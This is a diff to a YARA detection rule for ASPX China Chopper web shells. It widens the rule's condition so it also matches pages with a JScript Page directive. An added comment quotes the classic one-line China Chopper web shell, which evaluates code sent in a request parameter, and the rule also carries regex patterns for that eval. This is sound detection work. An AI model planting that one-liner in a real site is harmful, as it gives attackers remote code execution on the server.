@@ -14,8 +14,10 @@ rule EXHUNT_ASPX_ChinaChopper_UnsafeEval
     strings:
         $eval = /eval\s*\(\s*Request\s*(\.\s*(Item|Form|QueryString)\s*)?[\[\(]\s*["'][^"'\r\n]{1,64}["']\s*[\]\)]\s*,\s*["']unsafe["']/ nocase ascii wide
         $script = "runat" nocase ascii wide
+        // The classic one-line form: <%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>
+        $page = /<%@\s*Page\s+Language\s*=\s*["']?j?script/ nocase ascii wide
     condition:
-        filesize < 2MB and $eval and $script
+        filesize < 2MB and $eval and ($script or $page)
 }
 
 rule EXHUNT_ASPX_PageLoad_Eval
